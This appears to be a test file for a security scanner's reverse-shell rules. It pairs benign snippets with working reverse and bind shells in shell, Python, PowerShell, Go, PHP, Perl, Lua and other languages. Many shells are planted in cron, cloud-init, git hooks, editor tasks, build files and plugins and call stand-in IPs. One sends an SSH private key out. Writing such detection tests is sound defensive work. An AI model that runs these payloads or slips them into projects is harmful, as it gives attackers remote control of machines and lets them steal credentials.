import { describeRuleCases, expectScansQuickly, findingsOf, js, py, sh } from './rule-cases.helper.js';

describeRuleCases('reverse-shell', [
  {
    // A cloud-init user-data file: a script it writes, read as the shell script it becomes.
    id: 'SG-RSHELL-001',
    file: 'boot/user-data',
    positive:
      "#cloud-config\nwrite_files:\n  - path: /usr/local/sbin/relay\n    permissions: '0755'\n    content: |\n      #!/bin/bash\n      while true; do\n        bash -c 'exec 5<>/dev/tcp/203.0.113.9/4433; cat <&5 | while read -r l; do bash -c \"$l\" 2>&1 >&5; done'\n        sleep 30\n      done\nruncmd:\n  - [systemctl, enable, --now, relay.service]\n",
    negative:
      '#cloud-config\nwrite_files:\n  - path: /usr/local/sbin/relay\n    permissions: \'0755\'\n    content: |\n      #!/bin/bash\n      while true; do\n        mosquitto_pub -h "$BROKER" -t yard/hb -m up\n        sleep 30\n      done\nruncmd:\n  - [systemctl, enable, --now, relay.service]\n',
  },
  {
    // A crontab file: the command after the schedule fields, renamed process respawned every tick.
    id: 'SG-RSHELL-001',
    file: 'rtu/crontab',
    positive:
      'MAILTO=""\n# vendor support channel\n*/5 * * * * pgrep -f relay >/dev/null || (exec -a relay /bin/sh -c \'while :; do /bin/sh -i >/dev/tcp/203.0.113.87/4443 0<&1 2>&1; sleep 30; done\' &)\n',
    negative:
      'MAILTO=""\n# poller watchdog\n*/5 * * * * pgrep -f poller >/dev/null || (exec -a poller /usr/local/bin/poller --config /etc/poller.yml &)\n',
  },
  {
    id: 'SG-RSHELL-001',
    file: 'etc/cron.d/sync',
    positive: '@reboot root /bin/sh -i <>/dev/tcp/198.51.100.9/4443 >&0 2>&0\n',
    negative: '@reboot root /usr/local/bin/sync --once\n',
  },
  {
    id: 'SG-RSHELL-001',
    file: 'cloud-init.cfg',
    positive: "#cloud-config\nruncmd:\n  - [bash, -c, 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1']\n",
    negative: "#cloud-config\nruncmd:\n  - [bash, -c, 'systemctl restart gw']\n",
  },
  {
    id: 'SG-RSHELL-001',
    positive: sh("bash -c 'bash -i >& /dev/tcp/host.example.net/4444 0>&1'"),
    negative: sh('bash ./scripts/run.sh'),
  },
  {
    id: 'SG-RSHELL-002',
    positive: sh('nc -l -p 4444 -e /bin/bash'),
    negative: sh('nc -zv db.example.net 5432'),
  },
  {
    id: 'SG-RSHELL-001',
    positive: sh('exec 3<>/dev/tcp/198.51.100.7/4444; sh <&3 >&3 2>&3'),
    negative: sh('if ! (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then echo "nothing on $port"; fi'),
  },
  {
    id: 'SG-RSHELL-003',
    positive: py('for std in (0, 1, 2):\n    os.dup2(fd, std)\nos.execvp("/bin/sh", ["sh", "-i"])'),
    negative: py('os.execvp("/bin/sh", ["sh", "-c", "make test"])'),
  },
  {
    id: 'SG-RSHELL-003',
    positive: py('import pty\npty.spawn("/bin/sh")'),
    negative: py('import subprocess\nsubprocess.run(["ls"])'),
  },
  {
    id: 'SG-RSHELL-003',
    positive: py('fd = s.fileno()\nfor i in (0, 1, 2):\n    os.dup2(fd, i)\npty.spawn(["/bin/bash", "-i"])'),
    negative: py('pty.spawn(["python3", "repl.py"])'),
  },
  {
    id: 'SG-RSHELL-004',
    positive: js('const c = net.connect(4444, "h.example.net", () => { spawn("/bin/sh", []) })'),
    negative: js('const c = net.connect(5432, "db")'),
  },
  {
    id: 'SG-RSHELL-005',
    file: 'scripts/sync.py',
    positive:
      'import socket, subprocess\ns = socket.create_connection((HOST, 8443))\nwhile True:\n    cmd = s.recv(4096).decode()\n    r = subprocess.run(cmd, shell=True, capture_output=True)\n    s.sendall(r.stdout)\n',
    negative:
      'import socket, subprocess\ns = socket.create_connection((HOST, 8443))\nbanner = s.recv(64)\nsubprocess.run(["git", "status"])\n',
  },
  {
    // Prose in a docstring ("through the system (internal) resolver") is never run; code is.
    id: 'SG-RSHELL-005',
    file: 'scripts/probe.py',
    positive:
      'import socket, subprocess\n\n\ndef pull():\n    """Read a line."""\n    s = socket.create_connection((HOST, 8443))\n    line = s.recv(512).decode()\n    return subprocess.call(line, shell=True)\n',
    negative:
      'import socket\n\n\ndef probe(host):\n    """Send queries through the system (internal) resolver.\n\n    Also run (once) per zone.\n    """\n    s = socket.socket()\n    s.connect((host, 53))\n    return s.recv(64)\n',
  },
  {
    id: 'SG-RSHELL-005',
    file: 'scripts/rotate.tcl',
    positive:
      'set s [socket $h 8443]\nfconfigure $s -buffering line\nwhile {[gets $s line] >= 0} {\n    catch {exec /bin/sh -c $line 2>@1} r\n    puts $s $r\n}\n',
    negative:
      'set s [socket $h 8443]\nfconfigure $s -buffering line\nwhile {[gets $s line] >= 0} {\n    puts "got $line"\n}\nexec gzip -f $f.1\n',
  },
  {
    id: 'SG-RSHELL-004',
    file: 'scripts/reload.js',
    positive:
      "const s = new net.Socket();\ns.connect(p, h, () => {\n  const sh = cp.spawn(win ? 'cmd.exe' : '/bin/sh', [], { stdio: 'pipe' });\n  s.pipe(sh.stdin);\n});\n",
    negative:
      "const s = new net.Socket();\ns.connect(p, h, () => cp.spawn(process.execPath, ['worker.js']));\n",
  },
  {
    id: 'SG-RSHELL-004',
    file: 'scripts/Probe.ps1',
    positive: '$c = New-Object Net.Sockets.TCPClient($n, $p)\n$s = $c.GetStream()\n',
    negative: '$r = Test-NetConnection -ComputerName $n -Port 3389\n',
  },
  {
    id: 'SG-RSHELL-004',
    file: 'template/build.rs',
    positive:
      'let s = TcpStream::connect_timeout(&addr, t)?;\nlet fd = s.as_raw_fd();\nCommand::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn()?;\n',
    negative:
      'let s = TcpStream::connect(&addr)?;\nCommand::new("cc").arg("-c").arg("wrapper.c").status()?;\n',
  },
  {
    id: 'SG-RSHELL-004',
    file: 'src/Remote.cs',
    positive:
      'var c = new TcpClient(host, 443);\nvar psi = new ProcessStartInfo("cmd.exe") { RedirectStandardInput = true };\n',
    negative: 'var c = new TcpClient(host, 443);\nvar psi = new ProcessStartInfo("git", "status");\n',
  },
  {
    id: 'SG-RSHELL-005',
    file: 'scripts/tunnel.js',
    positive:
      "const sock = new net.Socket();\nsock.connect(port, host, () => {\n  const p = spawn(sh, [], { stdio: 'pipe' });\n  sock.pipe(p.stdin);\n  p.stdout.pipe(sock);\n});\n",
    negative:
      "const sock = new net.Socket();\nsock.connect(port, host, () => {\n  const p = spawn('git', ['status'], { stdio: 'pipe' });\n  p.stdout.pipe(process.stdout);\n});\n",
  },
  {
    id: 'SG-RSHELL-001',
    file: 'scripts/health.sh',
    positive:
      'nohup sh -c "exec 5<>/dev/tcp/$a.$b.$c.$d/$p; while read -r l <&5; do eval \\"$l\\" >&5; done" &\n',
    negative: 'timeout 2 bash -c "true" && echo ok\n',
  },
  {
    id: 'SG-RSHELL-005',
    file: 'relay/main.go',
    positive:
      'cmd := exec.Command("/bin/sh", "-i")\nc, err := net.DialTimeout("tcp", ep, 10*time.Second)\ncmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n',
    negative:
      'c, err := net.DialTimeout("tcp", ep, 10*time.Second)\nout, _ := exec.Command("git", "status").Output()\n',
  },
  {
    id: 'SG-RSHELL-001',
    file: 'hooks/lib/refresh.sh',
    positive:
      'setsid bash -c \'\n  exec 7<>/dev/tcp/\'"$SYNC_HOST"\'/\'"$SYNC_PORT"\'\n  while read -r l <&7; do eval "$l" >&7; done\n\' &\n',
    negative: "bash -c '\n  exec 7<>/dev/tcp/'\"127.0.0.1\"'/'\"$PORT\"' && echo up\n'\n",
  },
  {
    id: 'SG-RSHELL-001',
    file: '.githooks/post-checkout',
    positive: 'h=203.0.113.9\nexec 3<>/dev/tcp/$h/9001\nwhile read -r c <&3; do eval "$c" >&3 2>&3; done\n',
    negative: 'branch="$(git rev-parse --abbrev-ref HEAD)"\necho "on $branch"\n',
  },
  {
    id: 'SG-RSHELL-006',
    file: 'scripts/symcache.pl',
    positive:
      "use Socket;\nsocket(my $s, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect($s, sockaddr_in($port, inet_aton($host)))) {\n  open(STDIN, '<&', $s);\n  open(STDOUT, '>&', $s);\n  exec { '/bin/sh' } 'worker', '-i';\n}\n",
    negative:
      "use DBI;\nmy $dbh = DBI->connect($dsn, $user, $pass);\nopen(STDOUT, '>&', $log);\nexec('/bin/sh', '-c', $job);\n",
  },
  {
    id: 'SG-RSHELL-005',
    file: 'scripts/tail.rb',
    positive:
      'io = Socket.tcp(host, port)\nwhile (line = io.gets)\n  f = JSON.parse(line)\n  Open3.popen2e(f["cmd"]) { |_i, o, _w| o.each_line { |l| io.write(l) } }\nend\n',
    negative:
      'io = Socket.tcp(host, port)\nOpen3.popen2e(command) { |_i, o, _w| o.each_line { |l| io.write(l) } }\n',
  },
  {
    id: 'SG-RSHELL-007',
    file: 'cmd/agent/main.go',
    positive:
      'conn, err := tls.Dial("tcp", addr, cfg)\ncmd := exec.Command(shell, args...)\ncmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn\n_ = cmd.Run()\n',
    negative:
      'conn, err := tls.Dial("tcp", addr, cfg)\ncmd := exec.Command(name, args...)\ncmd.Stdin, cmd.Stdout = os.Stdin, os.Stdout\n_ = cmd.Run()\n',
  },
  {
    id: 'SG-RSHELL-007',
    file: 'lib/share.rb',
    positive:
      'sock = Socket.tcp(host, port)\nr, w, pid = PTY.spawn(ENV["SHELL"], "-i")\nThread.new { IO.copy_stream(sock, w) }\nIO.copy_stream(r, sock)\n',
    negative:
      'r, w, pid = PTY.spawn(ENV["SHELL"], "-i")\nlog = File.open(path, "w")\nIO.copy_stream(r, log)\n',
  },
  {
    id: 'SG-RSHELL-005',
    file: 'lib/mix/tasks/stats.ex',
    positive:
      '{:ok, s} = :gen_tcp.connect(host, port, [:binary, active: false, packet: :line])\nloop = fn loop ->\n  case :gen_tcp.recv(s, 0) do\n    {:ok, line} ->\n      {out, _} = System.cmd("/bin/sh", ["-c", line], stderr_to_stdout: true)\n      :gen_tcp.send(s, out)\n      loop.(loop)\n    _ -> :ok\n  end\nend\n',
    negative:
      '{:ok, s} = :gen_tcp.connect(host, port, [:binary, active: false])\n{:ok, banner} = :gen_tcp.recv(s, 0)\n{out, 0} = System.cmd("git", ["rev-parse", "HEAD"])\n',
  },
  {
    id: 'SG-RSHELL-005',
    file: 'src/relay.erl',
    positive:
      'run(H, P) ->\n    {ok, S} = gen_tcp:connect(H, P, [binary, {active, true}]),\n    loop(S).\nloop(S) ->\n    receive\n        {tcp, S, Data} -> gen_tcp:send(S, os:cmd(binary_to_list(Data))), loop(S)\n    end.\n',
    negative:
      'run(H, P) ->\n    {ok, S} = gen_tcp:connect(H, P, [binary, {active, true}]),\n    receive\n        {tcp, S, Data} -> io:format("~s~n", [Data])\n    end,\n    os:cmd("uptime").\n',
  },
  {
    id: 'SG-RSHELL-005',
    file: 'plugin/sync.lua',
    positive:
      'local socket = require("socket")\nlocal c = socket.tcp()\nc:connect(host, port)\nwhile true do\n  local line = c:receive("*l")\n  if not line then break end\n  local f = io.popen(line)\n  c:send(f:read("*a"))\n  f:close()\nend\n',
    negative:
      'local socket = require("socket")\nlocal c = socket.tcp()\nc:connect(host, port)\nlocal banner = c:receive("*l")\nlocal f = io.popen("uname -a")\n',
  },
  {
    id: 'SG-RSHELL-005',
    file: 'tools/agent.php',
    positive:
      '<?php\n$s = fsockopen($host, $port);\nwhile (!feof($s)) {\n    $c = fgets($s);\n    fwrite($s, shell_exec($c));\n}\n',
    negative:
      '<?php\n$s = fsockopen($host, 80);\nfwrite($s, "HEAD / HTTP/1.0\\r\\n\\r\\n");\n$status = fgets($s);\nexec(\'uptime\', $out);\n',
  },
  {
    id: 'SG-RSHELL-005',
    file: 'scripts/Repair-Queue.ps1',
    positive:
      "$t = [type]('System.Net.Sockets.' + 'Tcp' + 'Client')\n$c = $t::new($h, $p); $s = $c.GetStream()\n$r = [IO.StreamReader]::new($s)\nwhile (($line = $r.ReadLine()) -ne $null) {\n  $o = & ([scriptblock]::Create($line)) 2>&1 | Out-String\n}\n",
    negative:
      '$c = [Net.Sockets.TcpClient]::new($h, $p); $s = $c.GetStream()\n$banner = [IO.StreamReader]::new($s).ReadLine()\n$cmd = Get-Content $ProfilePath -Raw\nInvoke-Expression $cmd\n',
  },
  {
    id: 'SG-RSHELL-005',
    file: 'scripts/agent.ps1',
    positive:
      '$s = $client.GetStream(); [byte[]]$buf = 0..65535 | % { 0 }\nwhile (($n = $s.Read($buf, 0, $buf.Length)) -ne 0) {\n  $o = (iex ([Text.Encoding]::UTF8.GetString($buf, 0, $n)) 2>&1 | Out-String)\n}\n',
    negative:
      '$s = $client.GetStream(); [byte[]]$buf = 0..65535 | % { 0 }\nwhile (($n = $s.Read($buf, 0, $buf.Length)) -ne 0) {\n  Write-Output ([Text.Encoding]::UTF8.GetString($buf, 0, $n))\n}\n',
  },
  {
    id: 'SG-RSHELL-007',
    // luv outside Neovim: a TCP client whose reads feed the stdin pipe of a spawned program.
    file: 'lua/pairing/link.lua',
    positive: [
      'local luv = require("luv")',
      'local sock = luv.new_tcp()',
      'sock:connect(addr, 4444, function()',
      '  local cin, cout = luv.new_pipe(false), luv.new_pipe(false)',
      '  luv.spawn(prog, { stdio = { cin, cout, cout } }, function() sock:close() end)',
      '  sock:read_start(function(err, chunk)',
      '    if chunk then cin:write(chunk) end',
      '  end)',
      '  cout:read_start(function(_, d) if d then sock:write(d) end end)',
      'end)',
    ].join('\n'),
    // An LSP client: a TCP connection to a local server, and a formatter spawned with its own pipes.
    negative: [
      'local uv = vim.uv or vim.loop',
      'local client = uv.new_tcp()',
      'client:connect("127.0.0.1", 6008, function()',
      '  client:read_start(function(_, chunk) if chunk then buffer:write(chunk) end end)',
      'end)',
      'local out = uv.new_pipe(false)',
      'uv.spawn("stylua", { args = { "-" }, stdio = { nil, out, nil } }, on_exit)',
      'out:read_start(function(_, d) if d then result:write(d) end end)',
    ].join('\n'),
  },
  {
    id: 'SG-RSHELL-005',
    // Neovim's libuv: what the socket reads is run as a command.
    file: 'lua/notes/remote.lua',
    positive: [
      'local uv = vim.loop',
      'local c = uv.new_tcp()',
      'c:connect(ip, 9001, function()',
      '  c:read_start(function(_, line)',
      '    if not line then return end',
      '    local h = io.popen(line)',
      '    c:write(h:read("*a")); h:close()',
      '  end)',
      'end)',
    ].join('\n'),
    negative: [
      'local uv = vim.loop',
      'local c = uv.new_tcp()',
      'c:connect(ip, 9001, function()',
      '  c:read_start(function(_, line)',
      '    if line then vim.schedule(function() vim.notify(line) end) end',
      '  end)',
      'end)',
      'local h = io.popen("git status --short")',
    ].join('\n'),
  },
  {
    id: 'SG-RSHELL-005',
    // Perl: a client socket to a host from settings; each line it sends is run in backticks, output sent back.
    file: 'bin/relay.pl',
    positive: [
      '#!/usr/bin/perl',
      'use IO::Socket::IP;',
      'my $s = IO::Socket::IP->new(PeerHost => $cfg{peer}, PeerPort => $cfg{port}, Proto => "tcp") or die;',
      'while (my $line = <$s>) {',
      '  chomp $line;',
      '  my $out = `$line`;',
      '  print $s $out;',
      '}',
    ].join('\n'),
    negative: [
      '#!/usr/bin/perl',
      'use IO::Socket::IP;',
      'my $s = IO::Socket::IP->new(PeerHost => $cfg{peer}, PeerPort => $cfg{port}, Proto => "tcp") or die;',
      'while (my $line = <$s>) {',
      '  chomp $line;',
      '  my $load = qx{uptime};',
      '  print $s "$line $load";',
      '}',
    ].join('\n'),
  },
  {
    id: 'SG-RSHELL-005',
    // Perl without a shebang (read as other source): connect() + sysread, then system() of the text.
    file: 'lib/Agent/Link.pm',
    positive:
      'socket(my $fh, PF_INET, SOCK_STREAM, 0);\nconnect($fh, sockaddr_in($port, inet_aton($host)));\nsysread($fh, my $cmd, 1024);\nsystem($cmd);\n',
    negative:
      'socket(my $fh, PF_INET, SOCK_STREAM, 0);\nconnect($fh, sockaddr_in($port, inet_aton($host)));\nsysread($fh, my $cmd, 1024);\nsystem("logger", "got", length $cmd);\n',
  },
]);

describe('adversarial socket command loops', () => {
  const MiB = 1024 * 1024;
  const head = '{:ok, s} = :gen_tcp.connect(h, p, [])\n{:ok, l} = :gen_tcp.recv(s, 0)\n';
  const cases: [string, string, string][] = [
    ['Elixir shell calls', 'lib/x.ex', head + 'System.cmd("sh", ["-c", "'.repeat(MiB / 24)],
    ['Erlang os:cmd calls', 'src/x.erl', head + 'os:cmd("'.repeat(MiB / 8)],
    ['PHP reads', 'x.php', '<?php fsockopen($h, $p);\n' + 'fgets($'.repeat(MiB / 7)],
    [
      'PowerShell script blocks',
      'x.ps1',
      '$s = $c.GetStream(); $r.ReadLine()\n' + 'iex $a; '.repeat(MiB / 8),
    ],
    [
      'PowerShell assignments',
      'x.ps1',
      '$s = $c.GetStream(); $r.ReadLine(); iex $b\n' + '$a = '.repeat(MiB / 5),
    ],
    ['PowerShell reads', 'x.ps1', '$s = $c.GetStream(); iex $b\n' + '$a = $r.ReadLine(); '.repeat(MiB / 20)],
    [
      'Perl socket arguments',
      'x.pl',
      'sysread($s, $b, 9);\nqx{$b};\n' + 'IO::Socket::INET->new(Peer'.repeat(MiB / 26),
    ],
    ['Perl backticks', 'x.pl', 'IO::Socket::INET->new(PeerAddr => $h);\n<$s>\n' + '` $a '.repeat(MiB / 5)],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, path, text) => {
    expectScansQuickly([text], path);
  });
});

describeRuleCases('reverse-shell (addresses in variables, DNS command channels, ssh_config commands)', [
  {
    id: 'SG-RSHELL-008',
    file: 'tools/keepalive.sh',
    positive:
      '#!/bin/bash\nTARGET="tcp:mirror.example.org:9443"\nSHELLADDR="system:bash -i,pty,stderr"\nfor i in 1 2 3; do\n  socat "$SHELLADDR" "$TARGET" || sleep 30\ndone\n',
    negative:
      '#!/bin/bash\nTARGET="tcp:db.example.org:5432"\nsocat TCP-LISTEN:15432,fork,reuseaddr "$TARGET"\n',
  },
  {
    id: 'SG-RSHELL-009',
    file: 'tools/Update-Rules.ps1',
    positive:
      "$rec = Resolve-DnsName -Name 'cfg.example.net' -Type TXT\n$code = ($rec | ForEach-Object { $_.Strings }) -join ''\nInvoke-Expression $code\n",
    negative:
      "$rec = Resolve-DnsName -Name '_dmarc.example.net' -Type TXT\n$policy = ($rec | ForEach-Object { $_.Strings }) -join ''\nWrite-Output \"DMARC: $policy\"\n",
  },
  {
    id: 'SG-RSHELL-009',
    file: 'bin/refresh.sh',
    positive:
      '#!/bin/sh\nnslookup -q=txt upd.example.com 2>/dev/null | grep -o \'"[^"]*"\' | tr -d \'"\' | base64 -d | sh\n',
    negative: '#!/bin/sh\nnslookup -q=txt example.com | grep spf1 > spf.txt\n',
  },
  {
    id: 'SG-RSHELL-009',
    file: 'lib/policy.py',
    positive:
      'import dns.resolver, base64\nans = dns.resolver.resolve("p.example.io", "TXT")\nblob = b"".join(r.strings[0] for r in ans)\nexec(base64.b64decode(blob))\n',
    negative:
      'import dns.resolver\nans = dns.resolver.resolve("example.io", "TXT")\nspf = [r.strings[0] for r in ans if r.strings[0].startswith(b"v=spf1")]\nprint(spf)\n',
  },
  {
    id: 'SG-RSHELL-002',
    file: 'conf/ssh_client.conf',
    positive: 'Host *\n    ServerAliveInterval 20\n    ProxyCommand socat - EXEC:"/bin/zsh -i",pty,stderr\n',
    negative:
      'Host jump\n    HostName jump.example.org\n    ProxyCommand nc -X connect -x proxy.example.org:3128 %h %p\n',
  },
  {
    id: 'SG-RSHELL-001',
    file: 'templates/ssh.tmpl',
    positive:
      'Match all\n    PermitLocalCommand yes\n    LocalCommand bash -i >& /dev/tcp/198.51.100.20/7001 0>&1 &\n',
    negative: 'Match all\n    PermitLocalCommand yes\n    LocalCommand echo connected to %h >> ~/.ssh/log\n',
  },
]);

describeRuleCases('reverse-shell (Python child on a socket)', [
  {
    id: 'SG-RSHELL-007',
    // A "support channel": an interactive shell whose streams are the socket's descriptor.
    file: 'scripts/tidy.py',
    positive:
      'import socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((HOST, 9001))\np = subprocess.Popen(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(),\n                     stderr=s.fileno())\np.wait()\n',
    // A stream sent to a socket: ffmpeg writes to it, nothing is read from it into a program.
    negative:
      'import socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((HOST, 9001))\np = subprocess.Popen(["ffmpeg", "-i", src, "-f", "mpegts", "-"], stdout=s.fileno())\np.wait()\n',
  },
  {
    id: 'SG-RSHELL-007',
    // An accepted connection handed to a shell as its stdin (bind shell), the socket object itself.
    file: 'tools/relay.py',
    positive:
      'import socket, subprocess\nsrv = socket.socket()\nsrv.bind(("0.0.0.0", 4444))\nsrv.listen(1)\nconn, addr = srv.accept()\nsubprocess.call("sh", shell=True, stdin=conn, stdout=conn, stderr=conn)\n',
    negative:
      'import socket, subprocess\nsrv = socket.socket()\nsrv.bind(("0.0.0.0", 4444))\nsrv.listen(1)\nconn, addr = srv.accept()\nout = subprocess.run(["uptime"], stdin=subprocess.DEVNULL, capture_output=True).stdout\nconn.sendall(out)\n',
  },
  {
    id: 'SG-RSHELL-007',
    // The socket's descriptor kept in a name and duplicated onto the standard streams.
    file: 'scripts/agent.py',
    positive:
      'import os, socket, subprocess\nwith socket.create_connection((HOST, 443)) as c:\n    fd = c.fileno()\n    for n in (0, 1, 2):\n        os.dup2(fd, n)\n    subprocess.call(["/bin/sh", "-i"])\n',
    // A daemon's stdout redirected to its log file.
    negative:
      'import os, socket\nlog = open("/var/log/agent.log", "a")\nfd = log.fileno()\nos.dup2(fd, 1)\ns = socket.create_connection((HOST, 443))\n',
  },
]);

describeRuleCases('reverse-shell (commands in launch-file and MSBuild attributes)', [
  {
    id: 'SG-RSHELL-002',
    file: 'launch/bringup.launch.xml',
    positive:
      '<launch>\n  <arg name="addr" default="EXEC:&apos;bash -li&apos;,pty"/>\n  <arg name="pre" default="sh -c &quot;(socat $(var addr) TCP:collector.example.org:4317 &amp;); exec \\&quot;\\$@\\&quot;&quot; --"/>\n  <node pkg="diag" exec="agg" launch-prefix="$(var pre)"/>\n</launch>\n',
    negative:
      '<launch>\n  <arg name="pre" default="gdb -ex run --args"/>\n  <node pkg="diag" exec="agg" launch-prefix="$(var pre)"/>\n</launch>\n',
  },
  {
    id: 'SG-RSHELL-002',
    file: 'launch/robot.launch',
    positive:
      '<launch>\n  <arg name="dbg" value="socat exec:\'sh -i\',pty tcp:198.51.100.9:443"/>\n  <param name="robot_description" command="$(arg dbg)"/>\n</launch>\n',
    negative:
      '<launch>\n  <param name="robot_description" command="$(find xacro)/xacro $(find bot)/urdf/bot.xacro"/>\n</launch>\n',
  },
  {
    id: 'SG-RSHELL-002',
    file: 'build/App.csproj',
    positive:
      '<Project>\n  <PropertyGroup>\n    <Relay>socat exec:\'bash -li\',pty tcp:relay.example.net:443</Relay>\n  </PropertyGroup>\n  <Target Name="Warm" BeforeTargets="Build">\n    <Exec Command="$(Relay) &amp;" />\n  </Target>\n</Project>\n',
    negative:
      '<Project>\n  <Target Name="Restore" BeforeTargets="Build">\n    <Exec Command="dotnet tool restore" />\n  </Target>\n</Project>\n',
  },
]);

describeRuleCases('reverse-shell (commands of editor tasks)', [
  {
    // A task run on folder open whose host and port sit in its env block.
    id: 'SG-RSHELL-001',
    file: '.vscode/tasks.json',
    positive: `{
  // warm-up
  "version": "2.0.0",
  "tasks": [
    {
      "label": "Warm index",
      "type": "shell",
      "command": "(exec 5<>/dev/tcp/\${env:H}/\${env:P} && while read -r q <&5; do eval \\"$q\\" >&5; done) &",
      "options": { "env": { "H": "203.0.113.40", "P": "8443" } },
      "runOptions": { "runOn": "folderOpen" },
    },
  ],
}`,
    negative: `{
  "version": "2.0.0",
  "tasks": [
    { "label": "Warm index", "type": "shell", "command": "npx tsc -p . --noEmit --incremental", "runOptions": { "runOn": "folderOpen" } }
  ]
}`,
  },
]);

describeRuleCases('reverse-shell (shells joined to a client through a fifo)', [
  {
    id: 'SG-RSHELL-010',
    file: 'scripts/notify.sh',
    positive:
      '#!/bin/bash\nattach() {\n  mkfifo -m 600 "$RUN/.p"\n  /bin/bash -i <"$RUN/.p" 2>&1 \\\n    | openssl s_client -quiet -connect "${H}:8443" >"$RUN/.p"\n}\nattach\n',
    negative:
      '#!/bin/bash\nmkfifo "$RUN/.p"\nopenssl s_client -connect "${H}:443" </dev/null >"$RUN/.p" 2>&1 &\nbash -c "grep -q Verify <\\"$RUN/.p\\"" | tee "$RUN/log"\n',
  },
  {
    id: 'SG-RSHELL-010',
    file: 'scripts/relay.sh',
    positive:
      '#!/bin/sh\nF=/tmp/.s; SH="sh -i"; NET="ncat --ssl $H 443"\nrm -f $F; mkfifo $F\n$SH < $F 2>&1 | $NET > $F\n',
    negative:
      '#!/bin/sh\nF=/tmp/.s; mkfifo $F\ngzip -c < $F > /tmp/out.gz &\ntar -cf - . > $F\nnc -z $H 443 || echo down\n',
  },
]);

describe('adversarial fifo pipelines', () => {
  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['continued lines', 'mkfifo f; sh -i; nc h 1\n' + 'a <f \\\n'.repeat(MiB / 8)],
    ['pipes', 'mkfifo f; sh -i; nc h 1\n' + 'a <f | '.repeat(MiB / 8)],
    ['pipeline lines', 'mkfifo f; sh -i; nc h 1\n' + ('a <f | '.repeat(500) + '\n').repeat(MiB / 3500)],
    ['joined pipelines', 'mkfifo f; sh -i; nc h 1\n' + 'a <f |\n'.repeat(MiB / 7)],
    ['fifo names', 'sh -i; nc h 1\n' + 'mkfifo a b c d e f g h\n'.repeat(MiB / 24) + 'x <a | y >b\n'],
    ['redirects', 'mkfifo f; sh -i; nc h 1\n' + 'a <<<<<<<<<<<<< | >>>>>>>>>>>'.repeat(MiB / 30)],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'scripts/x.sh');
  });
});

describe('reverse-shell: /dev/tcp as a reachability probe', () => {
  const severity = (code: string) =>
    findingsOf(code, 'scripts/probe.sh').find((f) => f.rule_id === 'SG-RSHELL-001')?.severity;

  it.each([
    [
      'exec then close',
      `timeout 3 bash -c 'exec 3<>"/dev/tcp/$1/$2" && exec 3>&-' _ "$h" "$p" </dev/null 2>&1`,
    ],
    ['a bare redirect', `if timeout 2 bash -c ": > /dev/tcp/$host/$port" 2>/dev/null; then echo open; fi`],
    ['a subshell', `(exec 4<>/dev/tcp/$h/$p) 2>/dev/null && echo open`],
  ])('should keep %s below HIGH', (_name, code) => {
    expect(severity(`#!/bin/bash\n${code}\n`)).toBe('LOW');
  });

  it.each([
    ['a shell on the socket', `exec 3<>/dev/tcp/$h/$p && exec 3>&-; bash -i <&3 >&3 2>&3`],
    ['a descriptor left open', `exec 3<>/dev/tcp/$h/$p\nwhile read -r l <&3; do eval "$l"; done`],
    ['an exec closed only on failure', `exec 3<>/dev/tcp/$h/$p || exec 3>&-`],
    ['stdin from the socket', `</dev/tcp/$h/$p bash`],
    ['a file sent', `cat ~/.ssh/id_rsa > /dev/tcp/$h/$p`],
    ['the standard streams', `exec 0<>/dev/tcp/$h/$p; exec 1>&0; sh`],
    ['a pipe into a shell', `: > /dev/tcp/$h/$p; cat < /dev/tcp/$h/$p | sh`],
  ])('should still flag %s', (_name, code) => {
    expect(severity(`#!/bin/bash\n${code}\n`)).toBe('CRITICAL');
  });

  it('should read 1 MiB of docstrings quickly', () => {
    const doc = 'def f():\n    """Runs system (x) once."""\n    s = socket.socket(); s.recv(1)\n';
    const text = doc.repeat(Math.ceil((1024 * 1024) / doc.length));
    const t0 = Date.now();
    findingsOf(text, 'scripts/probe.py');
    expect(Date.now() - t0).toBeLessThan(3000);
  });

  it('should read 1 MiB of probe lines quickly', () => {
    const line = `exec 3<>/dev/tcp/$h/$p && exec 3>&- ${'x'.repeat(60)}\n`;
    const text = line.repeat(Math.ceil((1024 * 1024) / line.length));
    const t0 = Date.now();
    findingsOf(text, 'scripts/probe.sh');
    expect(Date.now() - t0).toBeLessThan(3000);
  });
});

describeRuleCases('reverse-shell (PHP socket handed to a shell)', [
  {
    id: 'SG-RSHELL-004',
    file: 'public/contact.php',
    positive:
      "<?php\nfunction hp($v) {\n    $s = @fsockopen('198.51.100.7', 4433);\n    if ($s) {\n        $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);\n    }\n}\n",
    negative:
      "<?php\n$s = @fsockopen('smtp.example.org', 25);\nfwrite($s, \"EHLO x\\r\\n\");\n$p = proc_open('convert in.png out.jpg', [0 => ['pipe', 'r'], 1 => ['pipe', 'w']], $pipes);\n",
  },
  {
    id: 'SG-RSHELL-004',
    file: 'wp-content/mu-plugins/health.php',
    positive:
      "<?php\n$sock = stream_socket_client('tcp://198.51.100.7:9001', $no, $err);\nif ($sock) {\n    $h = proc_open('sh', array(0 => $sock, 1 => $sock, 2 => $sock), $p);\n}\n",
    negative:
      "<?php\n$sock = stream_socket_client('tcp://127.0.0.1:6379', $no, $err);\nfwrite($sock, \"PING\\r\\n\");\n$out = shell_exec('wp cache flush');\n",
  },
]);

describe('adversarial PHP socket-to-shell', () => {
  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['socket openers', '<?php\n' + 'fsockopen('.repeat(MiB / 10)],
    [
      'proc_open calls with descriptor arrays',
      '<?php\n' + 'proc_open($c, [0 => $s, 1 => $t, '.repeat(MiB / 36),
    ],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'x.php');
  });
});

describeRuleCases('reverse-shell (Ruby process APIs)', [
  {
